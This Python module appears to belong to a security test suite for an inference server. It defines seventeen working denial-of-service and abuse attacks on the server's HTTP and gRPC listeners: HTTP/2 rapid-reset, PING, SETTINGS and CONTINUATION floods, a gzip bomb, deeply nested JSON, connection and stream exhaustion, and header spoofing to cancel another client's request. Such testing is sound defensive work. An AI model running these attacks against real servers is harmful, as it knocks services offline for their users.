"""Attacks on the listeners at a server's ports by means that every client has: rows for a table of abuse."""

from __future__ import annotations

import json
import select
import socket
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from http.client import HTTPConnection, HTTPException

import grpc  # type: ignore[import-untyped]
from tritonclient.grpc import service_pb2
from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub

from multilora_wire.headers import CLIENT_HEADER
from trials.doors import GRPC_OPTIONS, STREAMING_MODEL, TIMEOUT_S, Attack, Doors, answers, infer_request, told
from trials.raw_http2 import (
    CONTINUATION,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    frame,
    frames,
    greet,
    open_streams,
    opened_and_reset,
)

_GENERATE = "/v2/models/generation_unary/generate"
_INFER = "/v2/models/generation_unary/infer"
_NUM_STRINGS = 5_000_000
_FRAMES_AT_ONCE = 200
_DEPTH = 200_000
_INFLATED_BYTES = 400 << 20
_NUM_CONNECTIONS = 1100
_HOLD_S = 5.0
_NUM_STREAMS = 10_000
_MESSAGE_BYTES = (1 << 31) - (1 << 16)

VICTIM_REQUEST_ID = "the-victims-request"

VICTIMS_NAME = "0:0:0:0::/64"
"""The proxy's name for a client that connects to it from `::1`."""


def send_deep_json(doors: Doors) -> str:
    """Send 400 kB of brackets to `generate`."""
    return post(doors.http_url, _GENERATE, '{"text_input":' + "[" * _DEPTH + "]" * _DEPTH + "}")


def post(url: str, path: str, body: str, headers: Mapping[str, str] | None = None) -> str:
    """The status of the answer to JSON, in words. url: `host:port`."""
    connection = HTTPConnection(url, timeout=TIMEOUT_S)
    try:
        connection.request("POST", path, body, {"Content-Type": "application/json", **(headers or {})})
        return f"HTTP {connection.getresponse().status}"
    except (OSError, HTTPException) as error:
        return f"disconnected ({type(error).__name__})"
    finally:
        connection.close()


def send_compressed_zeros(doors: Doors) -> str:
    """Send 400 MiB of zeros, an adapter's weights, in less than a MiB of gzip."""
    request = service_pb2.ModelInferRequest(model_name="generation_unary")
    request.inputs.add(name="lora_weights", datatype="FP16", shape=[1, 1, _INFLATED_BYTES // 2])
    request.raw_input_contents.append(bytes(_INFLATED_BYTES))
    with grpc.insecure_channel(doors.grpc_url, [("grpc.max_send_message_length", -1)]) as channel:
        stub = GRPCInferenceServiceStub(channel)
        try:
            stub.ModelInfer(request, timeout=TIMEOUT_S, compression=grpc.Compression.Gzip)
        except grpc.RpcError as error:
            return f"{error.code().name}: {error.details()}"
    return "answered"


def send_a_message_of_two_gigabytes(doors: Doors) -> str:
    """Send one message as long as protobuf allows, of a field that no server knows."""
    # Field 1000, so many bytes: a tag and a length as varints.
    message = b"\xc2\x3e" + _varint(_MESSAGE_BYTES) + bytes(_MESSAGE_BYTES)
    with grpc.insecure_channel(doors.grpc_url, GRPC_OPTIONS) as channel:
        send = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer", lambda raw: raw, lambda raw: raw)
        try:
            send(message, timeout=TIMEOUT_S)
        except grpc.RpcError as error:
            return f"{error.code().name}: {error.details()}"
    return "answered"


def hold_idle_connections(doors: Doors) -> str:
    """Hold 1,100 connections to each port that never send a byte, for some seconds."""
    return hold_connections(doors.http_url, doors.grpc_url)


def hold_connections(*urls: str) -> str:
    """Open 1,100 idle connections to each `host:port`, and hold them."""
    with ExitStack() as stack:
        idle = [
            stack.enter_context(socket.create_connection((host, int(port))))
            for url in urls
            for host, port in [url.split(":")]
            for _ in range(_NUM_CONNECTIONS)
        ]
        time.sleep(_HOLD_S)
        return f"{_num_closed(idle)} of {len(idle)} closed"


def open_ten_thousand_streams(doors: Doors) -> str:
    """Hold 10,000 streams without a request on one connection until the door closes it or is silent for seconds."""
    host, port = doors.grpc_url.split(":")
    num_refused = 0
    with socket.create_connection((host, int(port))) as connection:
        greet(connection)
        try:
            open_streams(connection, _NUM_STREAMS)
            connection.settimeout(_HOLD_S)
            for kind, _, _ in frames(connection):
                num_refused += kind == RST_STREAM
        except TimeoutError:
            return f"{num_refused} of {_NUM_STREAMS} refused"
        except (ConnectionResetError, BrokenPipeError):
            pass  # A door may close the connection of a client that goes on after many refusals.
    return f"connection closed after {num_refused} of {_NUM_STREAMS} refused"


def stop_the_victims_request_in_its_name(doors: Doors) -> str:
    """Stop the victim's request by its id, with its name in a header, in a parameter and in the body of `generate`."""
    in_header = infer_request("generation_unary", VICTIM_REQUEST_ID, stop=[[True]])
    in_parameter = infer_request("generation_unary", VICTIM_REQUEST_ID, stop=[[True]])
    in_parameter.parameters[CLIENT_HEADER].string_param = VICTIMS_NAME
    body = json.dumps({"id": VICTIM_REQUEST_ID, "stop": True, CLIENT_HEADER: VICTIMS_NAME})
    end, seen = time.monotonic() + _HOLD_S, []
    while time.monotonic() < end:
        seen.append("header: " + answers(doors, [in_header], clients=[VICTIMS_NAME]))
        seen.append("parameter: " + answers(doors, [in_parameter]))
        seen.append("body: " + post(doors.http_url, _GENERATE, body, {CLIENT_HEADER: VICTIMS_NAME}))
    return told(seen)


def ask_for_classes(doors: Doors) -> str:
    """Ask for a text as classes, over HTTP with JSON, over HTTP with tensors, over gRPC and in a stream."""
    text = {"name": "text_input", "shape": [1, 1], "datatype": "BYTES"}
    classes = [{"name": "text_output", "parameters": {"classification": 1}}]
    body = json.dumps({"inputs": [{**text, "data": ["hi"]}], "outputs": classes})
    head = json.dumps({"inputs": [{**text, "parameters": {"binary_data_size": 6}}], "outputs": classes})
    with_tensors = {"Inference-Header-Content-Length": str(len(head))}
    seen = [post(doors.http_url, _INFER, body, doors.headers)]
    seen.append(post(doors.http_url, _INFER, head + "\2\0\0\0hi", doors.headers | with_tensors))
    for model in ("generation_unary", STREAMING_MODEL):
        request = infer_request(model, text_input=[["hi"]], max_tokens=[[1]])
        request.outputs.add(name="text_output").parameters["classification"].int64_param = 1
        seen.append(answers(doors, [request]))
    return told(seen)


def send_shapes_beyond_the_values(doors: Doors) -> str:
    """Send JSON of one value whose shape has 2^33 values, and one whose shape has 2^62."""
    seen = []
    for num_values in (1 << 33, 1 << 62):
        bias = {"name": "embedding_bias", "shape": [1, num_values], "datatype": "FP32", "data": [1.0]}
        seen.append(post(doors.http_url, _INFER, json.dumps({"inputs": [bias]}), doors.headers))
    return told(seen)


def weigh_an_encoding_beyond_numbers(doors: Doors) -> str:
    headers = doors.headers | {"Accept-Encoding": "gzip;q=1e999999"}
    body = json.dumps({"text_input": "hi", "max_tokens": 1, **_key_in_body(doors)})
    return post(doors.http_url, _GENERATE, body, headers)


def ask_for_errors_of_grpc(doors: Doors) -> str:
    """Ask again and again for errors in gRPC's own form, in a stream that goes on after the first error.

    All requests are to one model: a stream of two kinds of models ends the server by another fault (SECURITY.md).
    """
    seen, metadata = [], [*doors.headers.items(), ("triton_grpc_error", "true")]
    asked = [infer_request("nobody", text_input=[["hi"]], max_tokens=[[1]])]
    with grpc.insecure_channel(doors.grpc_url) as channel:
        stub = GRPCInferenceServiceStub(channel)
        for _ in range(20):
            try:
                seen += [_kind(each) for each in stub.ModelStreamInfer(iter(asked * 4), TIMEOUT_S, metadata=metadata)]
            except grpc.RpcError as error:
                seen.append(str(error.code().name))
    return told(seen)


def send_five_million_strings(doors: Doors) -> str:
    """Send 20 MB of empty stop words."""
    request = infer_request("generation_unary", text_input=[["hi"]], max_tokens=[[1]])
    request.inputs.add(name="stop_words", datatype="BYTES", shape=[1, _NUM_STRINGS])
    request.raw_input_contents.append(bytes(4 * _NUM_STRINGS))
    return answers(doors, [request])


def reset_streams_without_end(doors: Doors) -> str:
    def batches() -> Iterator[bytes]:
        first = 1
        while True:
            yield opened_and_reset(first, _FRAMES_AT_ONCE)
            first += 2 * _FRAMES_AT_ONCE

    return _flood(doors, batches)


def ping_without_end(doors: Doors) -> str:
    return _flood(doors, lambda: iter(lambda: frame(PING, 0, 0, bytes(8)) * _FRAMES_AT_ONCE, b""))


def set_without_end(doors: Doors) -> str:
    return _flood(doors, lambda: iter(lambda: frame(SETTINGS, 0, 0) * _FRAMES_AT_ONCE, b""))


def continue_headers_without_end(doors: Doors) -> str:
    def batches() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, b"\x83")
        while True:
            yield frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100) * _FRAMES_AT_ONCE

    return _flood(doors, batches)


def leave_logits_unread(doors: Doors) -> str:
    """Ask eight times for the logits of many tokens as JSON, and read nothing for some seconds."""
    inputs = [
        {"name": "input_ids", "shape": [1, 340], "datatype": "INT32", "data": [9] * 340},
        {"name": "max_tokens", "shape": [1, 1], "datatype": "INT32", "data": [1]},
        {"name": "return_context_logits", "shape": [1, 1], "datatype": "BOOL", "data": [True]},
    ]
    with ExitStack() as stack:
        for _ in range(8):
            connection = stack.enter_context(_connected(doors.http_url))
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            _send_post(connection, _INFER, json.dumps({"inputs": inputs}), doors)
        time.sleep(_HOLD_S)
    return "8 x not read"


def ask_and_hang_up(doors: Doors) -> str:
    """Ask HTTP generate for 64 answers of 400 tokens, and hang up before they come."""
    body = json.dumps({"text_input": "Tell a story.", "max_tokens": 400, "end_id": -1, **_key_in_body(doors)})
    for _ in range(64):
        with _connected(doors.http_url) as connection:
            _send_post(connection, _GENERATE, body, doors)
            time.sleep(0.02)
    time.sleep(_HOLD_S)
    return "64 x hung up"


def _flood(doors: Doors, batches: Callable[[], Iterator[bytes]]) -> str:
    """Send frames on two connections for some seconds, or until the door closes them; what comes back is dropped."""

    def send(_: int) -> str:
        end = time.monotonic() + _HOLD_S
        with _connected(doors.grpc_url) as connection:
            greet(connection)
            connection.settimeout(_HOLD_S)
            try:
                for batch in batches():
                    connection.sendall(batch)
                    with suppress(BlockingIOError):
                        while connection.recv(1 << 16, socket.MSG_DONTWAIT):
                            pass
                    if time.monotonic() > end:
                        return "not closed"
            except TimeoutError:
                return "not read any more"
            except OSError:
                return "closed"
        raise AssertionError("batches are endless")

    with ThreadPoolExecutor(2) as pool:
        return told(pool.map(send, range(2)))


def _connected(url: str) -> socket.socket:
    host, port = url.split(":")
    return socket.create_connection((host, int(port)), timeout=TIMEOUT_S)


def _send_post(connection: socket.socket, path: str, body: str, doors: Doors) -> None:
    """Send a request and read nothing."""
    headers = {"Host": "x", "Content-Length": str(len(body)), **doors.headers}
    head = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    connection.sendall(f"POST {path} HTTP/1.1\r\n{head}\r\n{body}".encode())


def _key_in_body(doors: Doors) -> dict[str, str]:
    """The member that has the API key where no header is passed on."""
    return dict(doors.headers)


def _kind(answer: service_pb2.ModelStreamInferResponse) -> str:
    return "an error" if answer.error_message else "answered"


def _varint(number: int) -> bytes:
    """A number as protobuf writes it: seven bits a byte, the lowest first."""
    low, high = number & 0x7F, number >> 7
    return bytes([low | 0x80]) + _varint(high) if high else bytes([low])


def _num_closed(connections: list[socket.socket]) -> int:
    """The number of connections that the peer closed. gRPC servers speak first: open ones may have bytes to read."""
    poll = select.poll()
    for connection in connections:
        poll.register(connection, select.POLLRDHUP)
    return len(poll.poll(0))


DOOR_ATTACKS: Mapping[str, Attack] = {
    "JSON 200,000 deep to HTTP generate": send_deep_json,
    "gRPC, 400 MiB of zeros in gzip": send_compressed_zeros,
    "1,100 idle connections to each port": hold_idle_connections,
    "10,000 idle streams on a connection": open_ten_thousand_streams,
    "a gRPC message of 2 GiB": send_a_message_of_two_gigabytes,
    "stop by the victim's id in its name": stop_the_victims_request_in_its_name,
    "texts as classes": ask_for_classes,
    "JSON whose shapes have 2^33 and 2^62 values": send_shapes_beyond_the_values,
    "Accept-Encoding: gzip;q=1e999999": weigh_an_encoding_beyond_numbers,
    "a stream with errors of gRPC's own form": ask_for_errors_of_grpc,
    "5,000,000 empty strings": send_five_million_strings,
    "HTTP/2: HEADERS and RST_STREAM without end": reset_streams_without_end,
    "HTTP/2: PING without end": ping_without_end,
    "HTTP/2: SETTINGS without end": set_without_end,
    "HTTP/2: CONTINUATION without end": continue_headers_without_end,
    "logits as JSON, 8 times, not read": leave_logits_unread,
    "64 answers of 400 tokens, hung up": ask_and_hang_up,
}
"""The attacks by their names in a table."""
